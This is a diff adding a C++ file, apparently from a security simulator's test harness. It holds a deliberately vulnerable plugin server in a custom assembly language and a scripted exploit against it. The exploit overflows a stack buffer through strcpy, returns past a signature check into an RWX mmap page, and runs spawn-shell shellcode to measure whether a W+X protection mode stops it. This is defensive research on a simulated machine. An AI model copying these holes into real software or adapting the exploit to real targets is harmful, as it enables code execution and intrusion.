@@ -1,0 +1,171 @@
+#include "attacks/nx_bypass.h"
+
+#include <memory>
+
+#include "attacks/shellcode.h"
+#include "guest/guestlib.h"
+#include "image/image.h"
+#include "kernel/kernel.h"
+
+namespace sm::attacks {
+
+namespace {
+
+// A plugin server: the STORE command caches plugin bytes; the legitimate
+// LOAD path verifies a signature, then maps RWX memory and runs the plugin.
+// The PING handler has a stack overflow; the exploit returns into
+// lp_after_check, skipping the verification.
+const char* kVictim = R"(
+_start:
+  movi r1, FD_NET
+  movi r2, msg_banner
+  call print_fd
+srv_loop:
+  movi r1, FD_NET
+  movi r2, cmdbuf
+  movi r3, 96
+  call read_line
+  cmpi r0, 0
+  jz srv_quit
+  movi r4, cmdbuf
+  loadb r5, [r4]
+  cmpi r5, 'S'            ; STORE: cache plugin bytes
+  jz do_store
+  cmpi r5, 'P'            ; PING <echo>: the vulnerable handler
+  jz do_ping
+  cmpi r5, 'Q'
+  jz srv_quit
+  jmp srv_loop
+do_store:
+  movi r1, FD_NET
+  movi r2, plugin_cache
+  movi r3, 512
+  call read_n
+  movi r1, FD_NET
+  movi r2, msg_stored
+  call print_fd
+  jmp srv_loop
+do_ping:
+  call handle_ping
+  jmp srv_loop
+srv_quit:
+  movi r0, SYS_EXIT
+  movi r1, 0
+  syscall
+
+handle_ping:
+  push fp
+  mov fp, sp
+  movi r2, 72
+  sub sp, r2
+  ; leak the frame for the exploit's known-offset playbook
+  movi r1, FD_NET
+  mov r2, fp
+  call put_hex_fd
+  movi r1, FD_NET
+  movi r2, staging
+  movi r3, 600
+  call read_line
+  mov r1, fp
+  movi r2, 72
+  sub r1, r2
+  movi r2, staging
+  call strcpy             ; stack overflow to the return address
+  mov sp, fp
+  pop fp
+  ret
+
+; The legitimate plugin loader. load_plugin is never called by the exploit;
+; the exploit's corrupted return address lands on lp_after_check directly.
+load_plugin:
+  push fp
+  mov fp, sp
+  call verify_plugin
+  cmpi r0, 1
+  jnz lp_reject
+  .space 16, 0x90         ; NOP pad so the exploit can pick a string-safe
+lp_after_check:           ; entry address just before this label
+  ; mmap(0, 4096, R|W|X): a fresh MIXED page
+  movi r0, SYS_MMAP
+  movi r1, 0
+  movi r2, 4096
+  movi r3, 7
+  syscall
+  mov r5, r0
+  mov r1, r5
+  movi r2, plugin_cache
+  movi r3, 512
+  call memcpy             ; copy the (unverified!) plugin into W+X memory
+  callr r5                ; run it
+lp_reject:
+  mov sp, fp
+  pop fp
+  ret
+
+verify_plugin:
+  ; DigSig-style check stub: plugins from STORE are never signed, so the
+  ; legitimate path would refuse them.
+  movi r0, 0
+  ret
+
+.data
+msg_banner: .asciz "plugin-server 1.0\n"
+msg_stored: .asciz "plugin cached\n"
+plugin_cache: .space 512
+staging: .space 640
+cmdbuf: .space 100
+)";
+
+}  // namespace
+
+std::string nx_bypass_victim_source() { return kVictim; }
+
+NxBypassResult run_nx_bypass(core::ProtectionMode mode) {
+  NxBypassResult res;
+  kernel::Kernel k;
+  k.set_engine(core::make_engine(mode));
+  const auto program = assembler::assemble(guest::program(kVictim));
+  image::BuildOptions opts;
+  opts.name = "plugin-server";
+  k.register_image(image::build_image(program, opts));
+  const kernel::Pid pid = k.spawn("plugin-server");
+  auto chan = k.attach_channel(pid);
+  k.run(5'000'000);
+  chan->host_read_string();
+
+  // Cache the "plugin" (the attacker's shellcode: plain data so far).
+  std::vector<arch::u8> plugin(512, 0x90);
+  const auto payload = spawn_shell_shellcode();
+  std::copy(payload.begin(), payload.end(), plugin.begin() + 256);
+  chan->host_write(std::string("STORE\n"));
+  chan->host_write(plugin);
+  k.run(5'000'000);
+  chan->host_read_string();
+
+  // PING overflow: return into lp_after_check, past the signature check.
+  // The NOP pad before the label guarantees a NUL-free address nearby.
+  const arch::u32 target =
+      pick_string_safe_address(program.symbol("lp_after_check") - 17, 17);
+  chan->host_write(std::string("PING\n"));
+  k.run(5'000'000);
+  chan->host_read_string();  // fp leak — unused: text addresses are static
+  std::string overflow(76, 'A');  // buf[72] + saved fp, then the ret slot
+  for (int i = 0; i < 4; ++i) {
+    overflow.push_back(static_cast<char>(target >> (8 * i)));
+  }
+  overflow += "\n";
+  chan->host_write(overflow);
+  k.run(30'000'000);
+
+  kernel::Process& p = *k.process(pid);
+  res.shell_spawned = p.shell_spawned;
+  res.detected = !k.detections().empty();
+  res.victim_exit = p.exit_kind;
+  res.detail = res.shell_spawned
+                   ? "DEP bypass succeeded: shell from mmap'd W+X page"
+                   : (res.detected ? "bypass foiled: W+X page was split"
+                                   : "attack failed");
+  return res;
+}
+
+}  // namespace sm::attacks
